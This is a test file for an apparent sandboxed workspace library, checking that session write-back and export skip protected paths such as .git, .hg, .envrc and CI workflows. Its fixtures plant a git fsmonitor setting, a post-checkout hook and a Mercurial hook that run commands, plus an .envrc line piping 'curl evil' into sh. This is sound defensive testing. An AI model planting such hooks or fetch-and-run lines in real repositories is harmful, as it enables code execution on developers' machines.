import { readFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createSession } from '../../src/session/index.js';
import { exportTo } from '../../src/export/index.js';
import { SESSION_KINDS, hostTrees } from '../support/backends.js';
import { createWorkspace } from '../../src/workspace/create-workspace.js';
import { memoryDriver } from '../../src/backends/memory/index.js';

const trees = hostTrees();
const PLANTED = '[core]\n\tfsmonitor = "touch /tmp/pwned"\n';
const SKIPPED = "protected at the destination (protect: '**/.git/**'): an export never writes or deletes there";

describe.each(SESSION_KINDS)('session.writeBack on %s never writes a protected path back', (kind) => {
  it('leaves the host .git alone when the workspace holds a .git of its own, and reports it', async () => {
    const host = trees.tree({ 'a.txt': 'a', '.git/config': '[core]\n', '.git/hooks/pre-commit': '#!/bin/sh\n' });
    const session = await createSession({ backend: kind, sources: [{ hostPath: host, path: 'p' }], allowedHostRoots: [host] });
    await using _ = session;
    // Hydration left the host's .git out, so a .git made in the workspace is the model's own content...
    await session.filesystem.write('p/.git/config', PLANTED);
    await session.filesystem.write('p/.git/hooks/post-checkout', '#!/bin/sh\ntouch /tmp/pwned\n');
    await session.filesystem.write('p/a.txt', 'A');
    // ...which write-back must never carry onto the host's own repository.
    const result = await session.writeBack();
    expect(result).toEqual({
      written: ['p/a.txt'],
      deleted: [],
      conflicts: [],
      skipped: [{ path: 'p/.git', reason: SKIPPED }],
      dryRun: false,
    });
    expect(readFileSync(join(host, '.git/config'), 'utf8')).toBe('[core]\n');
    expect(existsSync(join(host, '.git/hooks/post-checkout'))).toBe(false);
    expect(readFileSync(join(host, 'a.txt'), 'utf8')).toBe('A');
  });
});

describe('exportTo never writes or deletes a protected path at the destination', () => {
  it('skips .git changes (writes and deletions) and exports the rest', async () => {
    const destination = trees.tree({ '.git/config': '[core]\n', '.git/hooks/pre-commit': '#!/bin/sh\n', 'a.txt': 'a' });
    const workspace = createWorkspace(memoryDriver());
    await using _ = workspace;
    await workspace.write('.git/hooks/pre-commit', '#!/bin/sh\n');
    await workspace.write('a.txt', 'a');
    const from = await workspace.snapshot();
    await workspace.delete('.git/hooks/pre-commit');
    await workspace.write('.git/config', PLANTED);
    await workspace.write('sub/.hg/hgrc', '[hooks]\nupdate = touch /tmp/pwned\n');
    await workspace.write('a.txt', 'A');
    const result = await exportTo(workspace, destination, { allowedHostRoots: [destination], from });
    expect(result.written).toEqual(['a.txt']);
    expect(result.deleted).toEqual([]);
    expect(result.skipped?.map((entry) => entry.path)).toEqual(['.git', 'sub/.hg']);
    expect(readFileSync(join(destination, '.git/config'), 'utf8')).toBe('[core]\n');
    expect(existsSync(join(destination, '.git/hooks/pre-commit'))).toBe(true);
    expect(existsSync(join(destination, 'sub/.hg'))).toBe(false);
    expect(readFileSync(join(destination, 'a.txt'), 'utf8')).toBe('A');
  });

  it("follows the workspace's protect patterns: an orchestrator's list replaces the default", async () => {
    const destination = trees.tree({ '.envrc': 'export A=1\n' });
    const guarded = createWorkspace(memoryDriver(), { protect: ['**/.envrc', '.github/workflows/**'] });
    await using _ = guarded;
    await guarded.write('.envrc', 'curl evil | sh\n');
    await guarded.write('.github/workflows/ci.yml', 'on: push\n');
    await guarded.write('.git/config', PLANTED);
    const result = await exportTo(guarded, destination, { allowedHostRoots: [destination], onConflict: 'overwrite' });
    expect(result.skipped?.map((entry) => entry.path)).toEqual(['.envrc', '.github/workflows']);
    expect(readFileSync(join(destination, '.envrc'), 'utf8')).toBe('export A=1\n');
    expect(readFileSync(join(destination, '.git/config'), 'utf8')).toBe(PLANTED);
  });
});
